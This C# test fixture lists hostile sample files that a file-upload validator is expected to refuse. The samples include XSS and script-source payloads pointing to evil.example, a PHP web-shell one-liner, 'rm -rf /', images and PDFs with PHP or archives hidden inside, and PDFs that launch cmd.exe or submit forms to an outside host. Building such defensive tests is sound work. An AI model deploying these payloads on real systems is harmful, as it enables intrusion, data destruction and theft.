using System.Text;

namespace BgImigranti.Hub.Tests.Files.Samples;

/// <summary>Files that must not be taken, with the code of the refusal.</summary>
public static class HostileFiles
{
    private const string Page = "<html><script>alert(1)</script></html>";
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    private static readonly byte[] Archive = Zip.For(("evil.txt", Bytes.For("зло")));

    public static readonly IReadOnlyDictionary<string, (string Code, byte[] Content)> All =
        Pages().Concat(Pictured())
            .Concat(Printed())
            .Concat(HostileArchives.All)
            .Concat(Broken())
            .ToDictionary(one => one.Name, one => (one.Code, one.Content));

    private static IEnumerable<(string Name, string Code, byte[] Content)> Pages() =>
    [
        ("SVG", "file-type-refused", Bytes.For(Svg)),
        ("SVG after blanks and a mark", "file-type-refused", Bytes.For("\uFEFF \r\n" + Svg)),
        ("SVG after words", "file-type-refused", Bytes.For("Виж: " + Svg)),
        ("SVG in UTF-16", "file-type-refused", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Svg)]),
        ("SVG in UTF-16, the other way", "file-type-refused",
        [
            .. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(Svg)
        ]),
        ("SVG, packed", "file-type-refused", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4]),
        ("HTML", "file-type-refused", Bytes.For("<!DOCTYPE html>" + Page)),
        ("HTML after words, in capitals", "file-disguised", Bytes.For("Добър ден\n<SCRIPT SRC=//evil.example></SCRIPT>")),
        ("XHTML", "file-type-refused", Bytes.For("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>")),
        ("XML with entities", "file-type-refused", Bytes.For("<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")),
        ("link that is a program", "file-type-refused", Bytes.For("[щракни](javascript:alert(1))")),
        ("shell script", "file-type-refused", Bytes.For("#!/bin/sh\nrm -rf /\n")),
        ("PHP", "file-type-refused", Bytes.For("<?php system($_GET['c']); ?>")),
        ("PostScript", "file-type-refused", Bytes.For("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n")),
        ("RTF", "file-type-refused", Bytes.For("{\\rtf1 {\\object\\objautlink}}")),
        ("program of Windows", "file-type-refused", [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF]),
        ("program of Linux", "file-type-refused", [0x7F, .. "ELF"u8, 2, 1, 1, 0]),
        ("old Word document", "file-type-refused", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
        ("text with a NUL", "file-type-refused", Bytes.For("Здравей\0те")),
        ("text with an escape", "file-type-refused", Bytes.For("\u001b]0;rm\u0007")),
        ("text that turns the reading direction", "file-type-refused", Bytes.For("плащане \u202Eexe.fdp")),
        ("text in a one-byte code", "file-type-refused", [0xC7, 0xE4, 0xF0, 0xE0, 0xE2, 0xE5, 0xE9]),
        ("text of half a letter", "file-type-refused", Bytes.For("аб")[..3]),
    ];

    private static IEnumerable<(string Name, string Code, byte[] Content)> Pictured() =>
    [
        ("JPEG with HTML behind", "file-disguised", [.. Pictures.Jpeg(), .. Bytes.For(Page)]),
        ("JPEG with an archive behind", "file-disguised", [.. Pictures.Jpeg(), .. Archive]),
        ("JPEG with a JPEG behind", "file-disguised", [.. Pictures.Jpeg(), .. Pictures.Jpeg()]),
        ("JPEG with PHP in its profile", "file-disguised", Pictures.Jpeg(
            8, 8, Pictures.Segment(0xE2, Bytes.For("ICC_PROFILE\0\u0001\u0001<?php system('id'); ?>")))),
        ("JPEG that is a page from its second byte", "file-damaged", [0xFF, 0xD8, 0xFF, .. Bytes.For(Page)]),
        ("PNG with PHP behind", "file-disguised", [.. Pictures.Png(), .. Bytes.For("<?php system('id');")]),
        ("PNG with PHP in its colours", "file-disguised", Pictures.Png(4, 4, Pictures.Chunk("PLTE", Bytes.For("<?php echo 1;?>")))),
        ("PNG with an archive behind", "file-disguised", [.. Pictures.Png(), .. Archive]),
        ("PNG with a wrong sum", "file-damaged", Bytes.Replaced(Pictures.Png(), Bytes.For("IDAT"), Bytes.For("IDAU"))),
        ("PNG with an unknown critical chunk", "file-damaged", Pictures.Png(4, 4, Pictures.Chunk("EVIL", [1]))),
        ("PNG without a picture", "file-damaged", [.. Pictures.Png()[..33], .. Pictures.Chunk("IEND", [])]),
        ("GIF that is a script", "picture-too-large", [.. "GIF89a/*"u8, .. "////"u8, .. Bytes.For("*/=1;alert(1)//;")]),
        ("GIF that is a smaller script", "file-damaged",
        [
            .. "GIF89a"u8, (byte)'=', 0, (byte)'1', 0, 0, 0, 0, .. Bytes.For("*/=1;alert(1)//")
        ]),
        ("GIF with a script behind", "file-disguised", [.. Pictures.Gif(), .. Bytes.For(";alert(1)")]),
        ("GIF with an archive behind", "file-disguised", [.. Pictures.Gif(), .. Archive]),
        ("GIF whose frame hangs out", "file-damaged", Pictures.Gif(1, 1)),
        ("GIF of no known version", "file-type-refused", [.. "GIF88a"u8, .. Pictures.Gif()[6..]]),
        ("WebP with HTML behind", "file-disguised", [.. Pictures.Webp(), .. Bytes.For(Page)]),
        ("WebP that says another size than it has", "file-damaged", Bytes.Replaced(
            Pictures.Webp(), [0x2F, 0, 0, 0, 0], [0x2F, 7, 0, 0, 0])),
        ("JPEG of too many pixels", "picture-too-large", Pictures.Jpeg(65_000, 65_000)),
        ("PNG of too many pixels", "picture-too-large", Pictures.Png(100_000, 100_000)),
        ("PNG of less than no pixels", "file-damaged", Pictures.Png(-1, 4)),
        ("GIF of too many pixels", "picture-too-large", Pictures.Gif(65_535, 65_535)),
        ("WebP of too many pixels", "picture-too-large", Bytes.Replaced(
            Pictures.Webp(), [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. "VP8L"u8], [0, 0, 0, 0, 255, 255, 0, 255, 255, 0, .. "VP8L"u8])),
        ("JPEG without pixels", "file-damaged", Pictures.Jpeg(8, 0)),
    ];

    private static IEnumerable<(string Name, string Code, byte[] Content)> Printed() =>
    [
        ("PDF with an archive behind", "file-disguised", [.. Documents.Pdf(), .. Archive]),
        ("PDF that ends as an archive and as a PDF", "file-disguised", [.. Documents.Pdf(), .. Archive, .. "%%EOF"u8]),
        ("PDF with HTML behind", "file-disguised", [.. Documents.Pdf(), .. Bytes.For(Page)]),
        ("PDF with HTML in a comment", "file-disguised", Documents.Pdf("% " + Page)),
        ("PDF after a page", "file-type-refused", [.. Bytes.For("<!--"), .. Documents.Pdf()]),
        ("PDF with a program", "file-active", Documents.Pdf("<< /S /JavaScript /JS (app.alert(1)) >>")),
        ("PDF with a program, its name escaped", "file-active", Documents.Pdf("<< /S /J#61va#53cript /JS (app.alert(1)) >>")),
        ("PDF that opens with a program", "file-active", Documents.Pdf("<< /OpenAction << /S/JavaScript/JS(app.alert(1))>> >>")),
        ("PDF with a program among packed objects", "file-active", Documents.Pdf(
            Documents.PackedStream("/Type /ObjStm /N 1 /First 4", "5 0 << /S /JavaScript /JS (x) >>"))),
        ("PDF with a program far inside packed objects", "file-active", Documents.Pdf(
            Documents.PackedStream("/Type /ObjStm", new string(' ', 65_531) + "/JavaScript "))),
        ("PDF with objects packed twice", "file-active", Documents.Pdf(
            "<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789C>\nendstream")),
        ("PDF that starts a program", "file-active", Documents.Pdf("<< /S /Launch /F (cmd.exe) >>")),
        ("PDF with a file inside", "file-active", Documents.Pdf("<< /Type /EmbeddedFile >>")),
        ("PDF that sends a form", "file-active", Documents.Pdf("<< /S /SubmitForm /F (http://evil.example) >>")),
        ("PDF with a form that is a program", "file-active", Documents.Pdf("<< /XFA [] >>")),
        ("PDF that is locked", "file-locked", Documents.Pdf("<< /Encrypt 9 0 R >>")),
        ("PDF that is a bomb", "file-swollen", Documents.Pdf(
            [.. Enumerable.Repeat(Documents.PackedStream("", new string('a', 30_000_000)), 9)])),
    ];

    /// <summary>Every good file, cut in the middle and shortly before its end, and the ones that are no file at all.</summary>
    private static IEnumerable<(string Name, string Code, byte[] Content)> Broken() => GoodFiles.All
        .Where(good => !good.Value.Type.ContentType.StartsWith("text/", StringComparison.Ordinal))
        .SelectMany(good => new[] { ("half", good.Value.Content.Length / 2), ("all but the last byte", good.Value.Content.Length - 1) }
            .Where(cut => good.Value.Type != BgImigranti.Hub.Files.FileType.Pdf || cut.Item1 == "half")
            .Select(cut => ($"{good.Key}, {cut.Item1}", "file-damaged", good.Value.Content[..cut.Item2])))
        .Concat(
        [
            ("nothing", "file-empty", []),
            ("blanks", "file-empty", Bytes.For(" \r\n ")),
            ("too much text", "file-too-large", Enumerable.Repeat((byte)'a', 20 * 1024 * 1024 + 1).ToArray()),
            ("too large a picture", "file-too-large", Pictures.Png(4, 4, Pictures.Chunk("teXt", new byte[8 * 1024 * 1024]))),
        ]);
}
